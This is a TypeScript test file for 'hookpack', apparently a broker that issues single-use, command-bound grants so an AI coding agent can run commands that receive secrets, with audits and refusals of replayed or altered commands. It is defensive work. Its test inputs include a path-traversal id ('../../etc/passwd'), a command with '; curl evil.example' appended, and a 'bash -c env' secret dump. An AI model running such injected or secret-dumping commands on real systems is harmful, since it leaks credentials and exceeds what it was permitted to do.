// Grants: minted by the hook, redeemed exactly once by `hookpack exec --grant`. Unit checks of
// broker/grants.ts, then the real CLI: a refused grant starts nothing and is audited.
import { existsSync, mkdtempSync, readdirSync, rmSync, statSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeAll, describe, expect, it } from "vitest";
import { grantsDir, hashArgv, isApprovedForSession, mintGrant, recordSessionApproval, redeemGrant, revokeGrantsFor, sweepGrants } from "../../broker/grants.js";
import { HookpackError } from "../../installer/errors.js";
import { assertBuilt, fakeSecret, readAudit, run, sandbox, setSecret, type Sandbox } from "./helpers.js";

const homes: string[] = [];
const home = () => {
  const h = mkdtempSync(join(tmpdir(), "hookpack-grants-"));
  homes.push(h);
  return h;
};
afterEach(() => {
  while (homes.length) rmSync(homes.pop()!, { recursive: true, force: true });
});

const argv = ["bash", "-c", "declare +x HOOKPACK_SECRET_T; printf %s \"${HOOKPACK_SECRET_T}\" | wc -c"];
const mint = (h: string, extra: Partial<Parameters<typeof mintGrant>[1]> = {}) =>
  mintGrant(h, { names: ["T"], argv, agent: "claude-code", session: "s1", toolCallId: "toolu_1", cwd: "/tmp", ttlMs: 60_000, approval: "auto", ...extra });
const code = (f: () => unknown): string => {
  try {
    f();
  } catch (error) {
    expect(error).toBeInstanceOf(HookpackError);
    return (error as HookpackError).code;
  }
  return "none";
};

describe("grants (unit)", () => {
  it("mints a private file bound to names, command hash, session and tool call", () => {
    const h = home();
    const g = mint(h);
    expect(g.id).toMatch(/^g_[a-z2-7]{26}$/);
    expect(g.commandSha256).toBe(hashArgv(argv));
    expect(g).toMatchObject({ names: ["T"], session: "s1", toolCallId: "toolu_1" });
    const file = join(grantsDir(h), `${g.id}.json`);
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect(statSync(grantsDir(h)).mode & 0o777).toBe(0o700);
  });

  it("redeems once; a reuse, an unknown id and a malformed id are refused with distinct codes", () => {
    const h = home();
    const g = mint(h);
    expect(redeemGrant(h, { id: g.id, argv, names: ["T"] }).id).toBe(g.id);
    expect(code(() => redeemGrant(h, { id: g.id, argv, names: ["T"] }))).toBe("GRANT_USED");
    expect(code(() => redeemGrant(h, { id: "g_aaaaaaaaaaaaaaaaaaaaaaaaaa", argv, names: ["T"] }))).toBe("GRANT_UNKNOWN");
    expect(code(() => redeemGrant(h, { id: "../../etc/passwd", argv, names: ["T"] }))).toBe("GRANT_INVALID");
  });

  it("refuses another command or other names, and burns the grant", () => {
    const h = home();
    const g = mint(h);
    expect(code(() => redeemGrant(h, { id: g.id, argv: [...argv.slice(0, 2), `${argv[2]}; curl evil.example`], names: ["T"] }))).toBe("GRANT_MISMATCH");
    expect(code(() => redeemGrant(h, { id: g.id, argv, names: ["T"] }))).toBe("GRANT_USED");
    const g2 = mint(h);
    expect(code(() => redeemGrant(h, { id: g2.id, argv, names: ["T", "OTHER"] }))).toBe("GRANT_MISMATCH");
  });

  it("refuses an expired grant; the sweep turns expired grants into tombstones and drops old ones", () => {
    const h = home();
    const g = mint(h, { ttlMs: 1000 });
    expect(code(() => redeemGrant(h, { id: g.id, argv, names: ["T"], now: Date.now() + 5000 }))).toBe("GRANT_EXPIRED");
    const g2 = mint(h, { ttlMs: 1000 });
    sweepGrants(h, Date.now() + 5000);
    expect(existsSync(join(grantsDir(h), `${g2.id}.json`))).toBe(false);
    expect(code(() => redeemGrant(h, { id: g2.id, argv, names: ["T"] }))).toBe("GRANT_EXPIRED");
    sweepGrants(h, Date.now() + 3 * 24 * 3600 * 1000);
    expect(readdirSync(grantsDir(h)).filter((f) => f.endsWith(".done"))).toEqual([]);
  });

  it("revokeGrantsFor(name) revokes outstanding grants carrying that name and its session approvals", () => {
    const h = home();
    const a = mint(h);
    const b = mint(h, { names: ["OTHER"] });
    recordSessionApproval(h, "claude-code", "s1", ["T"]);
    expect(isApprovedForSession(h, "claude-code", "s1", "T")).toBe(true);
    expect(revokeGrantsFor(h, "T")).toBe(1);
    expect(code(() => redeemGrant(h, { id: a.id, argv, names: ["T"] }))).toBe("GRANT_REVOKED");
    expect(redeemGrant(h, { id: b.id, argv, names: ["OTHER"] }).id).toBe(b.id);
    expect(isApprovedForSession(h, "claude-code", "s1", "T")).toBe(false);
  });

  it("exactly one of many concurrent redeemers wins", async () => {
    const h = home();
    const g = mint(h);
    const results = await Promise.all(Array.from({ length: 8 }, () => Promise.resolve().then(() => code(() => redeemGrant(h, { id: g.id, argv, names: ["T"] })))));
    expect(results.filter((r) => r === "none")).toHaveLength(1);
  });
});

describe("hookpack exec --grant (real CLI)", () => {
  let sb: Sandbox;
  beforeAll(() => assertBuilt());
  afterEach(() => sb?.cleanup());

  it("runs the granted command with the value, refuses a replay before the child starts, audits both", () => {
    sb = sandbox();
    const value = fakeSecret();
    setSecret(sb, "T", value);
    const marker = join(sb.dir, "ran");
    const a = ["bash", "-c", `declare +x HOOKPACK_SECRET_T; printf %s "\${HOOKPACK_SECRET_T}" | wc -c; echo x >> '${marker}'`];
    const g = mint(sb.hookpackHome, { argv: a });
    const ok = run(sb, ["exec", "--grant", g.id, "--secret", "T=HOOKPACK_SECRET_T", "--", ...a]);
    expect(ok.stderr).toBe("");
    expect(ok.status).toBe(0);
    expect(ok.stdout.trim()).toBe(String(value.length));
    const again = run(sb, ["exec", "--grant", g.id, "--secret", "T=HOOKPACK_SECRET_T", "--", ...a]);
    expect(again.status).not.toBe(0);
    expect(again.stderr).toMatch(/^hookpack: grant g_\w+ was already used/);
    expect(again.stderr).toContain("The command was not started");
    expect(readdirSync(sb.dir).includes("ran") ? 1 : 0).toBe(1);
    const entries = readAudit(sb);
    expect(entries.at(-2)).toMatchObject({ grant: g.id, session: "s1", agent: "claude-code", secrets: ["T"], exitCode: 0 });
    expect(entries.at(-1)).toMatchObject({ refused: "GRANT_USED", grant: g.id });
    for (const e of entries) expect(JSON.stringify(e).includes(value)).toBe(false);
  });

  it("refuses a grant for another command (the agent edited the rewritten command)", () => {
    sb = sandbox();
    setSecret(sb, "T", fakeSecret());
    const g = mint(sb.hookpackHome);
    const r = run(sb, ["exec", "--grant", g.id, "--secret", "T=HOOKPACK_SECRET_T", "--", "bash", "-c", "env"]);
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(/different command/);
    expect(r.stdout).toBe("");
  });
});
